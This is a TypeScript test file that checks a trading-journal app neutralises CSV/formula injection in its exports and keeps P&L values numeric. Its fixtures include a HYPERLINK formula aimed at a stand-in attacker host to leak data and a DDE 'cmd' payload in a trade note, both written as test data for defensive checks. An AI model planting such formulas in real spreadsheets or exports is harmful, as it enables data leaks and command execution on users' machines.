import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { numberCell, textCell } from '../../src/exports/csv.js';
import { tempDir } from '../helpers/tmp.js';
import { journalFixture, text } from './helpers.js';

// CSV injection (OWASP): a text cell that a spreadsheet would run as a formula is neutralised; numbers stay numbers.

test('textCell neutralises every formula start and quotes every text cell', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000', '＝', '＋', '－', '＠']) {
    assert.equal(textCell(`${start}1+1`), `"'${start}1+1"`, JSON.stringify(start));
  }
  assert.equal(textCell('=HYPERLINK("http://x.test","y")'), `"'=HYPERLINK(""http://x.test"",""y"")"`);
  assert.equal(textCell('plain text'), '"plain text"');
  assert.equal(textCell('a;=1+1'), '"a;=1+1"', 'a ; inside stays inside one quoted cell');
  assert.equal(textCell("'already"), `"'already"`);
  assert.equal(textCell(''), '""');
});

test('numberCell writes plain decimals: a negative number stays a number, never an exponent', () => {
  assert.equal(numberCell(-12.5), '-12.5');
  assert.equal(numberCell(-1826.88), '-1826.88');
  assert.equal(numberCell(0.0000001), '0.0000001');
  assert.equal(numberCell(-0.0000005), '-0.0000005');
  assert.equal(numberCell(1e21), '1000000000000000000000');
  assert.equal(numberCell(21000.25), '21000.25');
  assert.equal(numberCell(Number.NaN), '');
});

const HOSTILE_ACCOUNT = '=HYPERLINK("http://attacker.test/?leak","click me")';
const csvLine = (cells: string[]) => cells.map((c) => (/[",]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',');

/** Two accounts whose names are formulas; a losing short and a winning long, so P&L cells are negative and positive. */
function hostileFile(dir: string): string {
  const header = 'Instrument,Action,Quantity,Price,Time,ID,E/X,Position,Order ID,Name,Commission,Rate,Account,Connection,TradeValidation';
  const rows = [
    [
      'MNQ 12-25',
      'Buy',
      '1',
      '21000.00',
      '10/7/2025 9:30:00 AM',
      'h1',
      'Entry',
      '1 L',
      'o1',
      'Entry',
      '$0.52',
      '1',
      HOSTILE_ACCOUNT,
      'Apex',
      '',
    ],
    [
      'MNQ 12-25',
      'Sell',
      '1',
      '21010.00',
      '10/7/2025 9:40:00 AM',
      'h2',
      'Exit',
      '-',
      'o2',
      'Exit',
      '$0.52',
      '1',
      HOSTILE_ACCOUNT,
      'Apex',
      '',
    ],
    ['MNQ 12-25', 'Sell', '2', '21000.00', '10/7/2025 10:30:00 AM', 'h3', 'Entry', '2 S', 'o3', 'Entry', '$1.04', '1', '-2+3', 'Apex', ''],
    ['MNQ 12-25', 'Buy', '2', '21012.50', '10/7/2025 10:45:00 AM', 'h4', 'Exit', '-', 'o4', 'Exit', '$1.04', '1', '-2+3', 'Apex', ''],
  ];
  const file = path.join(dir, 'hostile.csv');
  fs.writeFileSync(file, `${[header, ...rows.map(csvLine)].join('\n')}\n`);
  return file;
}

test('CSV exports keep formula-like accounts, notes and tags as neutralised text and P&L as numbers', async (t) => {
  const j = journalFixture(t);
  const r = await j.trades.importFile({ path: hostileFile(tempDir(t)) });
  assert.equal(r.status, 'imported', JSON.stringify(r.rejected));
  const [win, loss] = j.trades.listPositions({});
  assert.ok(win && loss && win.netPnl > 0 && loss.netPnl < 0);
  j.trades.setNote(win.id, '+1 SUM(A1:A9)');
  j.trades.addTag(win.id, '@SUM(A1:A9)');
  j.trades.setNote(loss.id, "\t=cmd|' /C calc'!A0");

  const positionsCsv = text(j.exports.table('positions'));
  const rows: Record<string, string>[] = parse(positionsCsv, { columns: true, record_delimiter: '\r\n' });
  assert.deepEqual(
    rows.map((r) => [r.account, r.note, r.tags]),
    [
      [`'${HOSTILE_ACCOUNT}`, "'+1 SUM(A1:A9)", "'@SUM(A1:A9)"],
      ["'-2+3", "'\t=cmd|' /C calc'!A0", ''],
    ],
  );
  // The losing short's P&L: a bare negative number in the file, not quoted, not prefixed.
  const lines = positionsCsv.split('\r\n');
  assert.equal(lines.length, 4, 'header, two rows, final CRLF');
  assert.ok(loss.netPnl < 0 && lines[2]?.includes(`,${loss.grossPnl},${loss.commission},${loss.netPnl},`), lines[2]);
  assert.equal(Number(rows[1]?.net_pnl), loss.netPnl);

  const executionsCsv = text(j.exports.table('executions'));
  const execs: Record<string, string>[] = parse(executionsCsv, { columns: true, record_delimiter: '\r\n' });
  assert.equal(execs.length, 4);
  assert.deepEqual([...new Set(execs.map((e) => e.account))], [`'${HOSTILE_ACCOUNT}`, "'-2+3"]);
  const stats: Record<string, string>[] = parse(text(j.exports.table('stats', {}, { by: 'account' })), { columns: true });
  assert.deepEqual(
    stats.map((s) => [s.account, Number(s.net_pnl)]),
    [
      ["'-2+3", loss.netPnl],
      [`'${HOSTILE_ACCOUNT}`, win.netPnl],
    ],
  );
  // No cell of any export starts a formula.
  for (const table of [rows, execs, stats]) {
    for (const row of table) {
      for (const [column, value] of Object.entries(row)) {
        const numeric = value !== '' && !Number.isNaN(Number(value));
        if (!numeric) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column}: ${value}`);
      }
    }
  }
});

test('the daily CSV carries each trading day with its running total, and filters apply', async (t) => {
  const j = journalFixture(t);
  await j.trades.importFile({ path: hostileFile(tempDir(t)) });
  const daily: Record<string, string>[] = parse(text(j.exports.table('daily')), { columns: true });
  const stats = j.trades.stats({}, { by: 'day' });
  assert.deepEqual(
    daily.map((d) => [d.trading_day, Number(d.net_pnl), Number(d.cumulative_net_pnl)]),
    (stats.groups ?? []).map((g) => [g.key, g.netPnl, stats.netPnl]),
  );
  const one: Record<string, string>[] = parse(text(j.exports.table('positions', { account: '-2+3' })), { columns: true });
  assert.deepEqual(
    one.map((p) => p.account),
    ["'-2+3"],
  );
  const short: Record<string, string>[] = parse(text(j.exports.table('positions', { side: 'short' })), { columns: true });
  assert.deepEqual(
    short.map((p) => p.side),
    ['short'],
  );
  assert.throws(() => text(j.exports.table('positions', { from: '2025-02-30' })), /TL_TRADES_BAD_FILTER|not a date/);
});
